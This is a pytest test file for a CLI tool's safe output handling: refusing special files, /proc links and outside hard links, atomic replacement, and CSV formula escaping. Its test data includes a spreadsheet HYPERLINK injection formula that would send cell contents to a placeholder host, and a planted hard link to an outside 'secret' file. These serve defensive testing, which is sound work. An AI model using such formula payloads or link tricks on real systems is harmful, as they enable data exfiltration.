"""Output paths (issue 19): every ``-o``/``--out`` writer writes a temporary file beside the
target and renames it over a regular file only. A target that exists and is not a regular
file (a FIFO, a device node) is refused with one line and exit 2 before any work and is left
as it was; a failed write leaves the old target byte for byte."""

from __future__ import annotations

import contextlib
import errno
import os
import select
import socket
import stat
import threading
import time
from pathlib import Path

import pytest

from coldscope.cli.main import main
from coldscope.store.db import Store
from coldscope.util.errors import ColdscopeError
from coldscope.util.safeio import check_output_target, output_target
from tests.unit.export.test_table import run as export_run
from tests.unit.export.test_trace import messy_run
from tests.unit.tuning.test_bundle import _session


def _store(t: Path) -> str:
    path = t / "s.db"
    if not path.exists():
        with Store(path) as s:
            s.add_run(messy_run())
            s.add_run(export_run("e1"))
    return str(path)


def _trace_csv(t: Path) -> str:
    (t / "tr.csv").write_text("arrival_s,context_tokens,generated_tokens\n0,10,10\n1,10,10\n")
    return str(t / "tr.csv")


def _empty_dir(t: Path) -> str:
    (t / "paper").mkdir(exist_ok=True)  # checked by click; the target is refused before it is read
    return str(t / "paper")


def _startup_model(t: Path) -> str:
    from coldscope.prediction.startup_model import StartupModel
    from tests.unit.prediction.test_calibrate import MODELS, _machine

    model = StartupModel(formulas={"model_loading": ("weight_gb",), "tokenizer": ("1",)})
    model.fit(_machine(2.0, 0.3, 5.0, MODELS), {}, {})
    model.save(t / "base.json")
    return str(t / "base.json")


def _tune_store(t: Path) -> str:
    if not (t / "tune" / "tune-x").exists():
        _session(t)  # a tune session beside the store, with caches for `default`
    return str(t / "s.db")


#: Every command that writes a file the user names, with that file as ``out``.
COMMANDS = {
    "export": lambda t, out: ["export", "-o", out, "--format", "csv", "--store", _store(t)],
    "export-parquet": lambda t, out: ["export", "-o", out, "--format", "parquet", "--store",
                                      _store(t)],
    "trace": lambda t, out: ["trace", "r1", "-o", out, "--store", _store(t)],
    "report": lambda t, out: ["report", "-o", out, "--store", _store(t)],
    "simulate": lambda t, out: ["simulate", "--trace", _trace_csv(t), "-o", out, "--json"],
    "plan": lambda t, out: ["plan", "--params", "7B", "-o", out, "--json"],
    "traces-synth": lambda t, out: ["traces", "synth", "--days", "0.001", "-o", out],
    "fit": lambda t, out: ["fit", "--paper", _empty_dir(t), "--out", out],
    "calibrate": lambda t, out: ["calibrate", _startup_model(t), "--paper", _empty_dir(t),
                                 "--out", out],
    "bundle": lambda t, out: ["bundle", "--config", "default", "-o", out, "--store",
                              _tune_store(t)],
}


@contextlib.contextmanager
def _reader_after(seconds: float, path: Path):
    """Opening a FIFO for writing blocks until a reader comes (in C code that no signal
    interrupts): if ``path`` is a FIFO, a reader comes after ``seconds`` and drains it, so a
    writer that opens the target fails the test instead of hanging it."""
    if not stat.S_ISFIFO(os.stat(path).st_mode):
        yield
        return
    stop = threading.Event()

    def drain():
        if stop.wait(seconds):
            return
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            while not stop.is_set():
                if not select.select([fd], [], [], 0.1)[0] or not os.read(fd, 1 << 16):
                    time.sleep(0.05)
        finally:
            os.close(fd)

    thread = threading.Thread(target=drain, daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()


def _leftovers(directory: Path, name: str) -> list[Path]:
    return list(directory.glob(f".{name}.*"))


def special_file(directory: Path, kind: str) -> Path:
    """A target that exists and is not a regular file, made in ``directory``. (Never a real
    device node such as /dev/null: should a regression write or rename over the target, the
    test must not break the machine it runs on.)"""
    out = directory / f"out.{kind}"
    if kind == "fifo":
        os.mkfifo(out)
    elif kind == "socket":
        sock = socket.socket(socket.AF_UNIX)
        cwd = os.getcwd()
        os.chdir(directory)  # a relative name: AF_UNIX paths are limited to ~100 bytes
        try:
            sock.bind(out.name)
        finally:
            os.chdir(cwd)
            sock.close()
    else:
        out.mkdir()
    return out


def test_a_device_is_a_target_only_when_named_under_dev(tmp_path):
    """Issue 31: ``-o /dev/null`` names the device itself and is written in place; a link to it
    made elsewhere is refused and left as it is. (Only stat()ed here: safe whatever happens.)"""
    target = output_target("/dev/null")
    assert (target.in_place, target.path, target.fd) == (True, Path("/dev/null"), None)
    assert output_target("/dev/stdout").fd == 1
    link = tmp_path / "null"
    os.symlink("/dev/null", link)
    with pytest.raises(ColdscopeError, match=f"cannot write {link}: it is a symbolic link to a "
                       "character device, not a regular file \\(name the device itself"):
        check_output_target(link)
    assert os.readlink(link) == "/dev/null"
    blocks = [p for p in Path("/dev").iterdir()
              if not p.is_symlink() and stat.S_ISBLK(os.lstat(p).st_mode)]
    for device in blocks[:1]:  # a block device is never a target, named or not
        with pytest.raises(ColdscopeError, match="is a block device"):
            output_target(device)


@pytest.mark.parametrize("name", ["/proc/self/status", "/proc/self/fd/1", "/sys/kernel/mm",
                                  "/proc/new-file"])
def test_proc_and_sys_are_never_targets(name):
    with pytest.raises(ColdscopeError, match=f"cannot write {name}: .*/proc or /sys"):
        check_output_target(name)


def test_a_nul_in_the_target_is_one_line():
    with pytest.raises(ColdscopeError, match="a path cannot hold a NUL byte"):
        check_output_target("out\0.csv")


@pytest.mark.parametrize("target", ["fifo", "socket", "directory"])
@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_target_that_is_not_a_regular_file_is_refused_untouched(tmp_path, capsys, command,
                                                                  target):
    out = special_file(tmp_path, target)
    argv = COMMANDS[command](tmp_path, str(out))
    capsys.readouterr()
    before = os.stat(out)
    with _reader_after(10, out):
        code = main(argv)
    err = capsys.readouterr().err
    assert code == 2, err
    if target == "directory":  # click's dir_okay=False may say it first
        assert f"cannot write {out}: it exists and is a directory" in err or \
            "is a directory" in err
    else:
        kind = {"fifo": "a FIFO", "socket": "a socket"}[target]
        assert f"cannot write {out}: it exists and is {kind}, not a regular file" in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    after = os.stat(out)
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
    assert not _leftovers(out.parent, out.name)


@pytest.mark.parametrize("command", ["export", "trace", "plan", "traces-synth"])
def test_a_regular_target_is_replaced_keeping_its_permissions(tmp_path, capsys, command):
    out = tmp_path / ("out.parquet" if command == "export-parquet" else "out.csv")
    out.write_text("old")
    out.chmod(0o640)
    assert main(COMMANDS[command](tmp_path, str(out))) == 0, capsys.readouterr().err
    assert out.read_bytes() != b"old"
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o640
    assert not _leftovers(tmp_path, out.name)
    fresh = tmp_path / "fresh.csv"  # a new file: what open() would give, not mkstemp's 0o600
    assert main(COMMANDS[command](tmp_path, str(fresh))) == 0
    mask = os.umask(0o022)
    os.umask(mask)
    assert stat.S_IMODE(os.stat(fresh).st_mode) == 0o666 & ~mask


@pytest.mark.parametrize("failure", ["disk full", "arrow"])
def test_a_failed_parquet_export_leaves_the_old_file_as_it_was(tmp_path, capsys, monkeypatch,
                                                               failure):
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = tmp_path / "runs.parquet"
    old = b"PAR1 an earlier export \x00\xff"
    out.write_bytes(old)
    real = pq.write_table

    def failing(table, where, *a, **kw):
        real(table.slice(0, 1), where, *a, **kw)  # half a file written, then
        if failure == "disk full":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        raise pa.ArrowInvalid("cannot convert")

    monkeypatch.setattr(pq, "write_table", failing)
    code = main(["export", "-o", str(out), "--store", _store(tmp_path)])
    err = capsys.readouterr().err
    assert code == 2
    said = "No space left on device" if failure == "disk full" else "cannot convert"
    assert f"cannot write {out}: {said}" in err and len(err.strip().splitlines()) == 1
    assert out.read_bytes() == old
    assert not _leftovers(tmp_path, out.name)


def test_a_failed_trace_write_leaves_the_old_file_as_it_was(tmp_path, capsys, monkeypatch):
    from coldscope.planning import traces
    out = tmp_path / "trace.parquet"
    out.write_bytes(b"old trace")
    real = traces._write_blocks

    def failing(table, write, progress, block=1 << 20):
        real(table.slice(0, 1), write, progress, block)
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(traces, "_write_blocks", failing)
    code = main(["traces", "synth", "--days", "0.001", "-o", str(out)])
    assert code == 2
    assert f"cannot write {out}: Input/output error" in capsys.readouterr().err
    assert out.read_bytes() == b"old trace"
    assert not _leftovers(tmp_path, out.name)


# -- issue 31: links, /proc and devices named under /dev -----------------------------------------


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_link_through_proc_is_refused_and_kept(tmp_path, capsys, command):
    """``-o`` onto a link to ``/proc/self/fd/N`` (here N is a regular file of the test) used to
    replace the link and lose the output: it is refused before any work, the link stays and
    the file behind it is not touched."""
    behind = tmp_path / "behind.txt"
    behind.write_text("kept")
    fd = os.open(behind, os.O_WRONLY)
    link = tmp_path / "out.link"
    os.symlink(f"/proc/self/fd/{fd}", link)
    try:
        argv = COMMANDS[command](tmp_path, str(link))
        capsys.readouterr()
        code = main(argv)
    finally:
        os.close(fd)
    err = capsys.readouterr().err
    assert code == 2, err
    assert f"cannot write {link}: it is a symbolic link through /proc/self/fd/{fd}" in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert os.readlink(link) == f"/proc/self/fd/{fd}"
    assert behind.read_text() == "kept"
    assert not _leftovers(tmp_path, link.name) and not _leftovers(tmp_path, behind.name)


@pytest.mark.parametrize("command", ["export", "trace", "report", "bundle", "plan"])
def test_a_link_to_a_regular_file_is_written_through(tmp_path, capsys, command):
    """The link stays a link to the same name; the file it names gets the output, exactly what
    the same command writes to that file named directly."""
    direct = tmp_path / "direct.out"
    assert main(COMMANDS[command](tmp_path, str(direct))) == 0, capsys.readouterr().err
    (tmp_path / "real").mkdir()
    real = tmp_path / "real" / "file.out"
    real.write_text("old")
    link = tmp_path / "out.link"
    os.symlink("real/file.out", link)
    assert main(COMMANDS[command](tmp_path, str(link))) == 0, capsys.readouterr().err
    assert os.readlink(link) == "real/file.out"
    assert real.stat().st_size > 0 and real.read_bytes() != b"old"
    if command in ("export", "plan"):  # the same bytes (the others stamp a time)
        assert real.read_bytes() == direct.read_bytes()
    assert not _leftovers(tmp_path / "real", real.name) and not _leftovers(tmp_path, link.name)
    # a link to no file yet, in an existing directory: the file is made there
    real.unlink()
    assert main(COMMANDS[command](tmp_path, str(link))) == 0, capsys.readouterr().err
    assert link.is_symlink() and real.is_file() and real.stat().st_size > 0


def test_dev_fd_writes_into_the_pipe_it_names(tmp_path, capsys):
    """``-o /dev/fd/N`` names this process's descriptor N (a pipe here): the CSV arrives on
    the pipe, byte for byte what the same export writes to a file."""
    direct = tmp_path / "direct.csv"
    assert main(COMMANDS["export"](tmp_path, str(direct))) == 0
    r, w = os.pipe()
    got = bytearray()
    reader = threading.Thread(target=lambda: got.extend(_read_all(r)), daemon=True)
    reader.start()
    try:
        code = main(COMMANDS["export"](tmp_path, f"/dev/fd/{w}"))
    finally:
        os.close(w)
    reader.join(10)
    os.close(r)
    assert code == 0, capsys.readouterr().err
    assert bytes(got) == direct.read_bytes()


def _read_all(fd: int) -> bytes:
    out = bytearray()
    while chunk := os.read(fd, 65536):
        out += chunk
    return bytes(out)


def test_dev_stdout_gets_the_output_and_the_summary_goes_to_stderr(tmp_path):
    """``coldscope export -o /dev/stdout`` in a process whose stdout is a pipe: stdout is the
    CSV alone (the same bytes as the file export), the "wrote" line is on stderr."""
    import subprocess
    import sys

    direct = tmp_path / "direct.csv"
    assert main(COMMANDS["export"](tmp_path, str(direct))) == 0
    before = os.lstat("/dev/stdout")
    done = subprocess.run(
        [sys.executable, "-c", "import sys; from coldscope.cli.main import main; "
         "sys.exit(main(sys.argv[1:]))", *COMMANDS["export"](tmp_path, "/dev/stdout")],
        capture_output=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout == direct.read_bytes()
    assert b"wrote 2 runs to /dev/stdout" in done.stderr
    after = os.lstat("/dev/stdout")
    assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)  # never renamed


# -- issue 31: CSV cells a spreadsheet would run ---------------------------------------------


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1)",
            "\tleading tab", "\rleading cr"]


@pytest.mark.parametrize("label", FORMULAS)
def test_a_formula_label_is_exported_as_text(tmp_path, capsys, label):
    """OWASP's rule: a text cell that starts with = + - @ tab or CR gets a single quote before
    it; numbers stay numbers; Parquet keeps the value as it is."""
    import csv

    import pyarrow.parquet as pq

    store = tmp_path / "s.db"
    with Store(store) as s:
        s.add_run(export_run("f1", label=label, reason="-x"))
    out = tmp_path / "runs.csv"
    assert main(["export", "-o", str(out), "--store", str(store)]) == 0, capsys.readouterr().err
    with out.open(newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["label"] == "'" + label
    assert row["reason"] == "'-x"
    assert row["id"] == "f1" and row["time_to_ready_s"] == "10.0"
    assert row["findings_count"] == "0"
    parquet = tmp_path / "runs.parquet"
    assert main(["export", "-o", str(parquet), "--store", str(store)]) == 0
    assert pq.read_table(parquet).column("label").to_pylist() == [label]


def test_report_csv_links_quote_formulas_and_keep_numbers():
    from coldscope.report.markup import to_csv

    text = to_csv([{"label": "=1+1", "seconds": -1.5, "n": -2, "ok": True, "plain": "a-b"}])
    assert text.splitlines() == ["label,seconds,n,ok,plain", "'=1+1,-1.5,-2,True,a-b"]


# -- issue 31: bundle packs the session's own files only -------------------------------------


def test_bundle_refuses_a_hard_link_to_a_file_outside_the_session(tmp_path, capsys):
    session = _session(tmp_path)
    secret = tmp_path / "elsewhere" / "secret"
    os.link(secret, session / "caches" / "default" / "vllm" / "stolen")
    out = tmp_path / "b.tar.gz"
    code = main(COMMANDS["bundle"](tmp_path, str(out)))
    err = capsys.readouterr().err
    assert code == 2, err
    assert ("cannot pack vllm/stolen: it is a hard link to a file outside "
            f"{session} (2 links, 1 inside)") in err
    assert len(err.strip().splitlines()) == 1
    assert not out.exists() and not _leftovers(tmp_path, out.name)


def test_bundle_packs_hard_links_within_the_session(tmp_path, capsys):
    """Links between the session's own files (here one configuration's cache and another's)
    are the session's content: packed, as the file's bytes."""
    import tarfile

    session = _session(tmp_path)
    (session / "caches" / "other").mkdir()
    os.link(session / "caches" / "default" / "vllm" / "x", session / "caches" / "other" / "x")
    out = tmp_path / "b.tar.gz"
    assert main(COMMANDS["bundle"](tmp_path, str(out))) == 0, capsys.readouterr().err
    with tarfile.open(out) as tar:
        assert tar.getnames() == ["manifest.json", "caches/vllm/x"]
        assert tar.extractfile("caches/vllm/x").read() == b"compiled"


def test_bundle_refuses_caches_that_resolve_outside_the_session(tmp_path, capsys):
    session = _session(tmp_path)
    caches = session / "caches"
    moved = tmp_path / "moved-caches"
    caches.rename(moved)
    os.symlink(moved, caches)  # the session's caches/ itself a link leading out
    out = tmp_path / "b.tar.gz"
    code = main(COMMANDS["bundle"](tmp_path, str(out)))
    err = capsys.readouterr().err
    assert code == 2, err
    assert "resolve to" in err and "outside session tune-x" in err
    assert not out.exists()

